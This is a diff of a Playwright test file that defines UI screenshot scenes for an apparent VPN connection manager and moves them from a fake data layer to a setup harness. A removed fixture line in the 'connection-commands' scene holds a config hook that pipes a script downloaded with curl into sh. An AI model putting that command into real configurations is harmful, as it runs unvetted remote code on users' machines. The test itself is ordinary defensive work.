@@ -1,8 +1,8 @@
 import type { Locator, Page } from 'playwright-core';
-import type { FakeOptions } from '#test/renderer/fake/options.ts';
-import type { Scene } from './scene.ts';
-
-const now = Date.now();
+import { statsEndpoints } from '#core/stats/stats-sources.ts';
+import { addCommands, ownNothing } from '#test/renderer/window/account.ts';
+import type { Setup } from '#test/renderer/window/main-process.ts';
+import { offline, unanswered, unreached, type Scene } from './scene.ts';
 
 /** Chooses the row that holds these words, and opens it where that takes another step. */
 function choose(words: string) {
@@ -13,69 +13,52 @@ function choose(words: string) {
   };
 }
 
-/** The first row of a subconfig, after those of three configurations were read. */
-async function firstSubconfig(page: Page): Promise<Locator> {
-  await page.getByRole('row').first().waitFor();
-  await page.evaluate(() => {
-    window.fake.change((all) => [
-      ...all,
-      ...all
-        .filter(({ key }) => ['config:1', 'config:2', 'config:5'].includes(key))
-        .map((owner) => ({
-          ...owner,
-          key: `sub:${owner.key}`,
-          source: 'subconfig' as const,
-          protocol: 'socks5',
-          favourite: false,
-          titleRule: null,
-        })),
-    ]);
-  });
-  return page
-    .getByRole('row')
-    .filter({ hasText: /Subconfig|Субконфиг/ })
-    .first();
+/** The row of a subconfig, which is read when its configuration is opened. */
+async function subconfig(page: Page): Promise<Locator> {
+  await find(page, 'iPad');
+  await choose('iPad')(page);
+  const row = page.getByRole('row').filter({ hasText: /Subconfig|Субконфиг/ });
+  await row.first().waitFor();
+  return row.first();
 }
+
+const unknownProtocol: Setup = {
+  service: (control) => {
+    const test = control.account().configs.find(({ title }) => title === 'Test');
+    if (test !== undefined) test.protocol = 'quic-next';
+  },
+};
 
 async function find(page: Page, words: string): Promise<void> {
   await page.getByRole('searchbox').fill(words);
 }
 
-const offline: FakeOptions = {
-  sync: {
-    network: 'offline',
-    offlineSince: now - 22 * 60_000,
-    refreshedAt: now - 27 * 60_000,
-    failure: { kind: 'offline', reason: 'unreachable' },
-  },
-  statsAge: 27 * 60_000,
-  pollEvery: 0,
-};
-
 /** The list, the connection beside it and how fresh they are, in their states. */
 export const connectionScenes: readonly Scene[] = [
   { name: 'connections' },
-  { name: 'connections-list-narrow', fake: { settings: { connectionsWidth: 352 } } },
-  { name: 'connections-list-wide', fake: { settings: { connectionsWidth: 2000 } } },
+  { name: 'connections-list-narrow', setup: { settings: { connectionsWidth: 352 } } },
+  { name: 'connections-list-wide', setup: { settings: { connectionsWidth: 2000 } } },
   { name: 'connection', act: choose('Phone') },
   { name: 'connection-awg', act: choose('Ноутбук, дом') },
   {
     name: 'connection-commands',
     act: choose('Ноутбук, дом'),
-    fake: { commands: ['PostUp = curl https://example.com/x | sh'] },
+    setup: { service: addCommands },
   },
   {
     name: 'connection-proxy',
     act: async (page) => {
-      await find(page, 'hundred');
-      await choose('hundred')(page);
+      await find(page, 'Парсер');
+      await choose('Парсер')(page);
     },
   },
   {
     name: 'connection-gone',
-    act: async (page) => {
+    act: async (page, main) => {
       await find(page, 'Travel');
       await choose('Travel')(page);
+      main.account.configs = main.account.configs.filter(({ title }) => title !== 'Travel');
+      await main.refresh();
     },
   },
   {
@@ -87,6 +70,7 @@ export const connectionScenes: readonly Scene[] = [
   },
   {
     name: 'connection-no-stats',
+    setup: unknownProtocol,
     act: async (page) => {
       await find(page, 'quic');
       await choose('Test')(page);
@@ -128,14 +112,7 @@ export const connectionScenes: readonly Scene[] = [
   },
   {
     name: 'connection-rename-failed',
-    fake: {
-      failures: {
-        'connections.setTitle': {
-          kind: 'rejected',
-          message: 'The title holds a word that is not allowed.',
-        },
-      },
-    },
+    setup: { faults: ['configs.setTitle:400'] },
     act: async (page) => {
       await choose('Phone')(page);
       await page.locator('header h2 + button').click();
@@ -146,7 +123,7 @@ export const connectionScenes: readonly Scene[] = [
   },
   {
     name: 'connection-failed',
-    fake: { failures: { 'connections.get': { kind: 'not-found', reason: 'not-cached' } } },
+    setup: { commands: { 'connections.get': { kind: 'not-found', reason: 'not-cached' } } },
     act: async (page) => {
       await page.getByRole('row').first().click();
       await page.getByRole('alert').waitFor();
@@ -154,7 +131,7 @@ export const connectionScenes: readonly Scene[] = [
   },
   {
     name: 'connection-stats-waiting',
-    fake: { silent: ['stats.watch'], pollEvery: 0 },
+    setup: { unanswered: statsEndpoints },
     act: choose('Phone'),
   },
   {
@@ -167,7 +144,7 @@ export const connectionScenes: readonly Scene[] = [
   },
   {
     name: 'copy-failed',
-    fake: { failures: { 'connections.copy': { kind: 'vault', reason: 'damaged' } } },
+    setup: { commands: { 'connections.copy': { kind: 'vault', reason: 'damaged' } } },
     act: async (page) => {
       await page.getByRole('row').nth(1).getByRole('button').click();
       await page.locator('[data-toast]').waitFor();
@@ -208,53 +185,63 @@ export const connectionScenes: readonly Scene[] = [
   { name: 'shortcuts', act: (page) => page.keyboard.press('Shift+Slash') },
   {
     name: 'changed',
-    act: async (page) => {
+    act: async (page, main) => {
       await page.getByRole('row').nth(1).hover();
-      await page.evaluate(() => {
-        window.fake.change((all) =>
-          all.map((row, n) => (n === 13 ? { ...row, favourite: true, title: 'AAA' } : row)),
-        );
-      });
+      const [last] = main.account.configs.slice(-1);
+      if (last !== undefined) last.title = 'AAA';
+      await main.ask('connections.setFavourite', { key: main.keyOf('AAA'), favourite: true });
+      await main.refresh();
       await page.locator('[data-order-changed]').waitFor();
     },
   },
   {
     name: 'connections-subconfigs',
     act: async (page) => {
-      await (await firstSubconfig(page)).waitFor();
+      await (await subconfig(page)).waitFor();
     },
   },
   {
     name: 'connection-subconfig',
     act: async (page) => {
-      await (await firstSubconfig(page)).click();
+      await (await subconfig(page)).click();
       await page.locator('[data-secret]').first().waitFor();
     },
   },
-  { name: 'offline', fake: offline },
-  { name: 'offline-connection', fake: offline, act: choose('Phone') },
+  { name: 'offline', ...offline },
   {
-    name: 'offline-unread',
-    fake: { count: 0, sync: { ...offline.sync, refreshedAt: null } },
+    name: 'offline-connection',
+    ...offline,
+    act: async (page, main) => {
+      await offline.act(page, main);
+      await choose('Phone')(page);
+    },
   },
+  { name: 'offline-unread', setup: unreached },
   {
     name: 'unauthorized',
-    fake: {
-      sync: { failure: { kind: 'unauthorized', status: 401 }, refreshedAt: now - 3 * 3_600_000 },
+    setup: {
+      before: async (main) => {
+        main.service.setFaults(['*:401']);
+        await main.refresh();
+      },
     },
   },
   {
     name: 'failed',
-    fake: {
-      count: 0,
-      sync: { refreshedAt: null, failure: { kind: 'server', status: 503, retryAt: now + 600_000 } },
+    setup: { faults: ['configs.*:503', 'cloudServers.*:503', 'paidOptions.*:503'] },
+  },
+  {
+    name: 'waiting',
+    act: async (page, main) => {
+      const sync = await main.ask('sync.get', {});
+      main.send('sync.changed', { ...sync, waitingUntil: Date.now() + 3_600_000 });
+      await page
+        .getByText(/limit|лимит/i)
+        .first()
+        .waitFor();
     },
   },
-  { name: 'waiting', fake: { sync: { waitingUntil: now + 3_600_000 } } },
-  { name: 'paused', fake: { sync: { paused: true } } },
-  {
-    name: 'loading',
-    fake: { silent: ['connections.rows'], sync: { refreshedAt: null, refreshing: true } },
-  },
-  { name: 'empty', fake: { count: 0 } },
+  { name: 'paused', setup: { before: (main) => main.ask('sync.pause', { paused: true }) } },
+  { name: 'loading', setup: unanswered },
+  { name: 'empty', setup: { service: ownNothing } },
 ];
